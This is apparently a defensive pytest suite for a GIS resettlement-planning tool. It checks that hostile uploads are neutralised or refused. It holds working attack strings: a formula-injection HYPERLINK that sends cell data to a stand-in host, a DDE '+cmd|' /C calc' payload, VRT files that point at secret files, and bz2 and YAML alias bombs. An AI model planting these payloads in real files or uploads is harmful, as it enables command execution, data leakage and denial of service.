"""Hostile inputs (issue 18): what an uploader with bad intent tries, each probe a test.

Formula injection: a site name or id such as ``=HYPERLINK("http://x/?"&A1,"click")`` must stay
text in every sheet of every xlsx Anzhi writes, and csv cells starting with ``= + - @ \\t \\r``
are neutralised with a leading ``'`` (OWASP), while numbers stay numbers.  Overwriting inputs:
an output path that is an input is refused before anything runs, and the input is unchanged.
"""

from __future__ import annotations

import bz2
import gzip
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import hypothesis
import hypothesis.strategies as st

import numpy as np
import openpyxl
import pandas as pd
import pytest
import rasterio
from affine import Affine
from rasterio.windows import Window

from anzhi.cli import main
from anzhi.core.errors import (MAX_LISTED_PROBLEMS, AnzhiError, DataSourceError, InputError,
                               Problem, short_repr)
from anzhi.core.settings import override
from anzhi.core.files import check_outputs_apart
from layers.export import FORMULA_STARTS, csv_safe, whole_counts, write_outputs
from geo.osmgraph import road_graph_from_ways
from geo.roads import RoadGraph, load_profile
from layers.boundaries import read_polygons
from layers.facilities import read_facilities
from layers.guard import check_vector_file
from layers.osm import read_osm_ways
from layers.osmpoi import read_osm_pois
from layers.raster import check_dem
from layers.roadcache import cached_road_graph, load_saved_road_graph
from analysis.rules.presets import load_rules
from layers.rulesfile import read_rules
from layers.sites import read_sites
from layers.terrain import open_slope, read_parcels, write_slope
from tests.layers.test_export import results  # noqa: F401  (the fixture)

HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'


def _formulas(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_hostile_names_stay_text_in_every_output(tmp_path: Path, results) -> None:  # noqa: F811
    gaps, coverage, access, rules = results
    gaps = gaps.copy()
    gaps["site_name"] = HOSTILE
    gaps["site_id"] = gaps["site_id"].where(gaps.index % 2 == 0, "@SUM(1+1)")
    gaps["township"] = "+cmd|' /C calc'!A0"
    write_outputs(tmp_path, gaps=gaps, coverage=coverage, access=access, rules=rules)
    assert _formulas(tmp_path / "gaps.xlsx") == []
    wb = openpyxl.load_workbook(tmp_path / "gaps.xlsx")
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert HOSTILE in texts and "@SUM(1+1)" in texts  # kept, as text
    csv = pd.read_csv(tmp_path / "gaps.csv", encoding="utf-8-sig", keep_default_na=False)
    assert set(csv["site_name"]) == {"'" + HOSTILE}
    assert set(csv["township"]) == {"'+cmd|' /C calc'!A0"}
    assert not any(str(v).startswith(FORMULA_STARTS) for col in csv.columns
                   if csv[col].dtype == object for v in csv[col])
    # numbers are still numbers
    assert pd.api.types.is_numeric_dtype(csv["population"])
    assert (csv["population"] > 0).all()


def test_the_formula_check_can_fail(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.append([HOSTILE])  # openpyxl's default: a live formula
    wb.save(tmp_path / "x.xlsx")
    assert _formulas(tmp_path / "x.xlsx") == ["Sheet!A1"]


def test_csv_safe_leaves_numbers_and_plain_text() -> None:
    df = pd.DataFrame({"name": ["=1+1", "-x", "normal", "\tab", None], "n": [-1.5, 2, 3, np.nan, 0]})
    out = csv_safe(df)
    assert out["name"].tolist()[:4] == ["'=1+1", "'-x", "normal", "'\tab"]
    assert pd.isna(out["name"].iloc[4])  # missing stays missing
    assert out["n"].equals(df["n"])
    assert df["name"].iloc[0] == "=1+1"  # the input frame is not modified


@pytest.mark.parametrize("command", ["slope", "access", "gaps", "land"])
def test_cli_refuses_to_overwrite_an_input(tmp_path: Path, demo, capsys, command: str) -> None:
    dem = tmp_path / "dem.tif"
    dem.write_bytes(Path(demo.dem).read_bytes())
    sites = tmp_path / "access.csv"  # named as an output of the folder commands would be
    sites.write_text("安置点名称,经度,纬度,人数\nA,99.2,24.7,100\n", encoding="utf-8")
    parcels = tmp_path / "slope.tif"
    parcels.write_bytes(b"not really parcels")
    before = {p: p.read_bytes() for p in (dem, sites, parcels)}
    args = {
        "slope": ["slope", "--dem", str(dem), "--out", str(dem)],
        "access": ["access", "--sites", str(sites), "--roads", str(demo.roads), "--out", str(sites)],
        "gaps": ["gaps", "--sites", str(sites), "--roads", str(demo.roads), "--out", str(tmp_path)],
        "land": ["land", "--dem", str(dem), "--parcels", str(parcels), "--out", str(tmp_path)],
    }[command]
    assert main(args) != 0
    err = capsys.readouterr().err
    assert "is also an input" in err and "Traceback" not in err
    assert {p: p.read_bytes() for p in (dem, sites, parcels)} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["access.csv", "dem.tif", "slope.tif"]


def test_outputs_apart(tmp_path: Path) -> None:
    a = tmp_path / "a.csv"
    a.write_text("x")
    link = tmp_path / "link.csv"
    link.symlink_to(a)
    check_outputs_apart([tmp_path / "out.csv"], [a])  # fine
    with pytest.raises(InputError, match="is also an input"):
        check_outputs_apart([link], [a])
    check_outputs_apart([tmp_path / "out"], [a], folder_files={tmp_path / "out": ["a.csv"]})
    # an output folder that would hold one of the inputs' own names in that very folder
    with pytest.raises(InputError, match="is also an input"):
        check_outputs_apart([tmp_path], [a], folder_files={tmp_path: ["a.csv", "b.csv"]})
    check_outputs_apart([tmp_path], [a], folder_files={tmp_path: ["b.csv"]})


# --------------------------------------------------------------------------- bounded messages


def test_an_error_message_lists_50_problems_and_counts_the_rest() -> None:
    exc = InputError([Problem("latitude out of range", row=i + 2, column="纬度", value=251.3)
                      for i in range(100_000)])
    text = str(exc)
    assert len(text) < 20_000
    assert text.startswith("100000 problems in the input:")
    assert text.count("\n  - ") == MAX_LISTED_PROBLEMS
    assert text.endswith("… and 99950 more / 另有 99950 个问题")
    assert len(exc.problems) == 100_000  # every problem still there for whoever wants them


def test_a_huge_or_nested_value_is_shown_short() -> None:
    bomb: list[object] = ["lol"] * 10
    for _ in range(9):  # the shape of a YAML alias bomb: 10**9 leaves if expanded
        bomb = [bomb] * 10
    text = str(Problem("rules must be a list", value=bomb))
    assert len(text) < 200
    assert len(str(Problem("bad id", value="x" * 10_000))) < 200
    assert short_repr(-3) == "-3"


# --------------------------------------------------------------------------- rasters


def test_a_vrt_disguised_as_a_dem_is_refused_unread(tmp_path: Path) -> None:
    secret = tmp_path / "secret.tif"
    secret.write_bytes(b"MARKER-LINE-42")
    vrt = tmp_path / "dem.tif"
    vrt.write_text(f'<VRTDataset rasterXSize="10" rasterYSize="10"><VRTRasterBand dataType="Byte" '
                   f'band="1"><SimpleSource><SourceFilename>{secret}</SourceFilename>'
                   f'</SimpleSource></VRTRasterBand></VRTDataset>', encoding="utf-8")
    with pytest.raises(DataSourceError, match="not a GeoTIFF or SRTM .hgt file") as info:
        check_dem(vrt)
    assert "MARKER" not in str(info.value)


@pytest.mark.parametrize("uri", ["/vsicurl/http://127.0.0.1:9/dem.tif", "https://example.org/dem.tif",
                                 "/vsizip//etc/x.zip/a.tif"])
def test_network_and_virtual_dem_paths_are_refused(uri: str) -> None:
    t0 = time.perf_counter()
    with pytest.raises(DataSourceError, match="virtual and network paths are not read"):
        check_dem(uri)
    assert time.perf_counter() - t0 < 1  # refused, not a connection that timed out


def test_a_sparse_huge_dem_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "huge.tif"
    with rasterio.open(path, "w", driver="GTiff", width=200_000, height=200_000, count=1,
                       dtype="int16", crs="EPSG:4542", transform=Affine(30, 0, 3.4e7, 0, -30, 3e6),
                       tiled=True, blockxsize=512, blockysize=512, sparse_ok=True,
                       compress="deflate") as dst:
        dst.write(np.ones((1, 512, 512), dtype="int16"), window=Window(0, 0, 512, 512))
    assert path.stat().st_size < 50_000_000
    t0 = time.perf_counter()
    with pytest.raises(InputError, match=r"200,000 × 200,000 pixels.*max_raster_pixels"):
        check_dem(path)
    with pytest.raises(InputError, match="max_raster_pixels"):
        write_slope(path, tmp_path / "slope.tif")
    assert time.perf_counter() - t0 < 5
    assert not (tmp_path / "slope.tif").exists()
    with override(max_raster_pixels=4 * 10**10):  # the limit can be raised
        assert check_dem(path).width == 200_000


# --------------------------------------------------------------------------- vector layers


def _ogr_vrt(target: Path) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>CSV:{target}</SrcDataSource>'
            '</OGRVRTLayer></OGRVRTDataSource>')


@pytest.mark.parametrize("name", ["sites.geojson", "sites.gpkg", "sites.shp"])
def test_an_ogr_vrt_disguised_as_a_layer_reads_no_server_file(tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("line\nMARKER-LINE-42\n", encoding="utf-8")
    path = tmp_path / name
    path.write_text(_ogr_vrt(secret), encoding="utf-8")
    for read in (read_sites, read_facilities, read_parcels,
                 lambda p: read_polygons(p, what="township boundaries")):
        with pytest.raises(DataSourceError, match="the file is not a") as info:
            read(path)
        assert "MARKER" not in str(info.value)


def test_the_vector_guard_can_fail_open(tmp_path: Path) -> None:
    # the same VRT under its own name is refused as an unknown format, and a real GeoJSON passes
    secret = tmp_path / "secret.csv"
    secret.write_text("line\nMARKER-LINE-42\n", encoding="utf-8")
    (tmp_path / "x.vrt").write_text(_ogr_vrt(secret), encoding="utf-8")
    with pytest.raises(DataSourceError, match="must be one of"):
        check_vector_file(tmp_path / "x.vrt", what="table")
    good = tmp_path / "ok.geojson"
    good.write_text('\ufeff {"type": "FeatureCollection", "features": []}', encoding="utf-8")
    assert check_vector_file(good, what="table") == "GeoJSON"


@pytest.mark.parametrize("uri", ["/vsicurl/http://127.0.0.1:9/sites.geojson",
                                 "http://127.0.0.1:9/sites.geojson"])
def test_network_layer_paths_are_refused(uri: str) -> None:
    with pytest.raises(DataSourceError, match="virtual and network paths are not read"):
        check_vector_file(uri, what="table")


def test_counts_stay_whole_numbers_in_csv(tmp_path: Path, results) -> None:  # noqa: F811
    gaps, coverage, access, rules = results
    write_outputs(tmp_path, gaps=gaps, coverage=coverage, access=access, rules=rules)
    rows = pd.read_csv(tmp_path / "gaps.csv", encoding="utf-8-sig", dtype=str,
                       keep_default_na=False)
    assert set(rows["households"]) == {"800", "210", ""}  # 41, not 41.0; missing stays empty
    assert set(rows["population"]) == {"3200", "900", "120"}
    half = gaps.assign(households=gaps["households"] / 2 + 0.25)  # fractions stay fractions
    assert not whole_counts(half)["households"].dtype.name.startswith("Int")


# --------------------------------------------------------------------------- poisoned caches


def _poison(path: Path, name: str, change) -> None:  # type: ignore[no-untyped-def]
    with np.load(path, allow_pickle=False) as z:
        arrays = {k: z[k] for k in z.files}
    arrays[name] = change(arrays[name].copy())
    with open(path, "wb") as fh:
        np.savez(fh, **arrays)


@pytest.mark.parametrize("name, change", [
    ("time_min_indices", lambda a: np.where(np.arange(len(a)) == 0, 10**7, a).astype(a.dtype)),
    ("edge_u", lambda a: a[:-3]),
    ("time_min_data", lambda a: -a),
    ("edge_time_min", lambda a: np.full_like(a, np.nan)),
    ("length_m_indptr", lambda a: a[::-1].copy()),
    ("pedge_coord_index", lambda a: a[::-1].copy()),
])
def test_a_poisoned_road_cache_is_rebuilt_not_used(tmp_path: Path, demo, name: str,
                                                   change, caplog) -> None:  # type: ignore[no-untyped-def]
    roads, profile = Path(demo.roads), load_profile("walk")
    calls: list[int] = []

    def build() -> RoadGraph:
        calls.append(1)
        return road_graph_from_ways(read_osm_ways(roads, progress=False), profile=profile)

    fresh, hit = cached_road_graph(roads, profile=profile, build=build, cache_dir=tmp_path)
    assert not hit
    (cache_file,) = tmp_path.glob("*.npz")
    _poison(cache_file, name, change)
    with pytest.raises(ValueError):
        load_saved_road_graph(cache_file, profile=profile)
    again, hit = cached_road_graph(roads, profile=profile, build=build, cache_dir=tmp_path)
    assert not hit and len(calls) == 2 and "rebuilding" in caplog.text
    assert (again.time_min != fresh.time_min).nnz == 0
    third, hit = cached_road_graph(roads, profile=profile, build=build, cache_dir=tmp_path)
    assert hit and len(calls) == 2  # the rebuilt cache is good again


# --------------------------------------------------------------------------- messy tables


def test_an_implausible_population_is_refused_not_wrapped(tmp_path: Path) -> None:
    path = tmp_path / "sites.csv"
    path.write_text("安置点名称,经度,纬度,人数\nA,99.2,24.7,99999999999999999999999\n"
                    "B,99.21,24.7,1200000\nC,99.22,24.7,800\n", encoding="utf-8")
    with pytest.raises(InputError, match="row 2, column '人数': population .* above the plausible "
                                         "bound of 1,000,000") as info:
        read_sites(path)
    assert "row 3" in str(info.value) and "row 4" not in str(info.value)
    with override(max_site_population=2_000_000):
        with pytest.raises(InputError, match="row 2") as info:
            read_sites(path)
        assert "row 3" not in str(info.value)


def _workbook(path: Path, rows: list[list[object]], merged: tuple[str, ...] = ()) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    for ref in merged:
        ws.merge_cells(ref)
    wb.save(path)  # openpyxl stores formulas without a saved value, as scripts do
    return path


def test_merged_county_cells_are_filled_down_with_a_note(tmp_path: Path, caplog) -> None:  # type: ignore[no-untyped-def]
    path = _workbook(tmp_path / "sites.xlsx", [
        ["县", "乡镇", "安置点名称", "经度", "纬度", "人数"],
        ["某县", "甲镇", "A", 104.1, 26.5, 100],
        [None, None, "B", 104.2, 26.5, 200],
        [None, "乙镇", "C", 104.3, 26.5, 300],
    ], merged=("A2:A4", "B2:B3"))
    sites = read_sites(path)
    assert list(sites["county"]) == ["某县"] * 3  # no county="" group
    assert list(sites["township"]) == ["甲镇", "甲镇", "乙镇"]
    assert "A2:A4, B2:B3" in sites.attrs["notes"][0] and "A2:A4" in caplog.text


def test_a_formula_without_a_saved_value_is_named_as_such(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "sites.xlsx", [
        ["安置点名称", "经度", "纬度", "人数"],
        ["A", 104.1, 26.5, 100],
        ["B", 104.2, 26.5, 200],
        ["=CONCAT(\"C\",1)", 104.3, 26.5, "=B2+B3"],
    ])
    with pytest.raises(InputError, match=r"row 4, column '人数': a formula with no saved value.*"
                                         r"'=B2\+B3'.*save it") as info:
        read_sites(path)
    text = str(info.value)
    assert "population is missing" not in text
    assert "row 4, column '安置点名称': a formula with no saved value" in text


def test_too_many_table_rows_are_refused_naming_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "sites.csv"
    path.write_text("安置点名称,经度,纬度,人数\n" + "".join(
        f"S{i},104.{i:03d},26.5,10\n" for i in range(40)), encoding="utf-8")
    with override(max_table_rows=10):
        with pytest.raises(InputError, match="more than 10 rows.*max_table_rows"):
            read_sites(path)
    assert len(read_sites(path)) == 40


# --------------------------------------------------------------------------- compressed OSM


def test_a_bz2_bomb_is_stopped_at_the_limit(tmp_path: Path) -> None:
    bomb = tmp_path / "roads.osm.bz2"
    bomb.write_bytes(bz2.compress(b"<osm version='0.6'>" + b" " * 50_000_000 + b"</osm>"))
    assert bomb.stat().st_size < 2_000
    t0 = time.perf_counter()
    with override(max_decompressed_bytes=5_000_000):
        with pytest.raises(InputError, match="roads.osm.bz2: it expands to more than 5,000,000 "
                                             "bytes.*max_decompressed_bytes"):
            read_osm_ways(bomb, progress=False)
        with pytest.raises(InputError, match="max_decompressed_bytes"):
            read_osm_pois(bomb)
    assert time.perf_counter() - t0 < 5
    assert not list(Path(tempfile.gettempdir()).glob("anzhi-osm-*/roads.osm"))  # cleaned up


def test_a_compressed_extract_is_read_as_the_plain_one(tmp_path: Path, demo) -> None:  # type: ignore[no-untyped-def]
    plain = Path(demo.roads)
    packed = tmp_path / "roads.osm.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    a, b = read_osm_ways(plain, progress=False), read_osm_ways(packed, progress=False)
    assert np.array_equal(a.way_ids, b.way_ids) and np.array_equal(a.node_ids, b.node_ids)
    with override(max_decompressed_bytes=plain.stat().st_size - 1):
        with pytest.raises(InputError, match="max_decompressed_bytes"):
            read_osm_ways(packed, progress=False)


# --------------------------------------------------------------------------- rule files

_ALIAS_BOMB = "name: x\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi")
) + "rules: [*i, *i, *i, *i, *i, *i, *i, *i, *i]\n"


def test_a_yaml_alias_bomb_is_refused_before_it_expands(tmp_path: Path) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text(_ALIAS_BOMB, encoding="utf-8")
    assert path.stat().st_size < 1_000
    t0 = time.perf_counter()
    with pytest.raises(InputError, match=r"rules.yaml: the YAML is too large once its \*aliases "
                                         r"are expanded.*100,000 nodes.*max_yaml_nodes"):
        read_rules(path)
    assert time.perf_counter() - t0 < 2


def test_rule_file_size_rule_count_and_nesting_are_bounded(tmp_path: Path) -> None:
    default = Path(__file__).parents[1] / "analysis/rules/default.yaml"
    path = tmp_path / "mine.yaml"
    path.write_bytes(default.read_bytes())
    # the real file passes every limit: read as a user's file it is the packaged preset
    n = len(load_rules("default").rules)
    assert [r.id for r in read_rules(path).rules] == [r.id for r in load_rules("default").rules]
    assert n >= 18
    with override(max_rules=5):
        with pytest.raises(InputError, match=f"the file has {n} rules.*limit of 5.*max_rules"):
            read_rules(path)
    with override(max_rules_file_bytes=1_000):
        with pytest.raises(InputError, match="bytes.*max_rules_file_bytes"):
            read_rules(path)
    deep = tmp_path / "deep.yaml"
    deep.write_text("rules: " + "[" * 50_000, encoding="utf-8")
    with pytest.raises(InputError, match="nested too deeply|line"):
        read_rules(deep)


# --------------------------------------------------------------------------- fuzz

_HEADS = [b"", b"II*\x00", b"MM\x00*", b"SQLite format 3\x00", b"{", b"[", b"<osm version='0.6'>",
          b"BZh9", b"\x1f\x8b", b"PK\x03\x04", b"\x00\x00\x27\x0a", "安置点名称,经度,纬度,人数\n".encode(),
          b"name: x\nrules:\n"]
_READERS: dict[str, Callable[[Path], object]] = {
    "sites.csv": read_sites, "sites.xlsx": read_sites, "sites.geojson": read_sites,
    "facilities.gpkg": read_facilities, "facilities.csv": read_facilities,
    "dem.tif": check_dem, "rules.yaml": read_rules,
    "roads.osm": lambda p: read_osm_ways(p, progress=False),
    "roads.osm.bz2": lambda p: read_osm_ways(p, progress=False),
}


@pytest.mark.parametrize("name", sorted(_READERS))
def test_random_bytes_give_an_anzhi_error_or_a_result(name: str) -> None:
    read = _READERS[name]

    @hypothesis.settings(max_examples=50, deadline=None, database=None,
                         suppress_health_check=list(hypothesis.HealthCheck))
    @hypothesis.given(head=st.sampled_from(_HEADS), body=st.binary(max_size=2_000))
    def check(head: bytes, body: bytes) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / name
            path.write_bytes(head + body)
            try:
                read(path)
            except AnzhiError:
                pass  # refused with a message: fine; any other exception fails the test

    check()


def test_a_vrt_given_as_a_slope_raster_is_refused(tmp_path: Path) -> None:
    vrt = tmp_path / "slope.tif"
    vrt.write_text('<VRTDataset rasterXSize="1" rasterYSize="1"></VRTDataset>', encoding="utf-8")
    with pytest.raises(DataSourceError, match="slope raster"), open_slope(vrt):
        pass
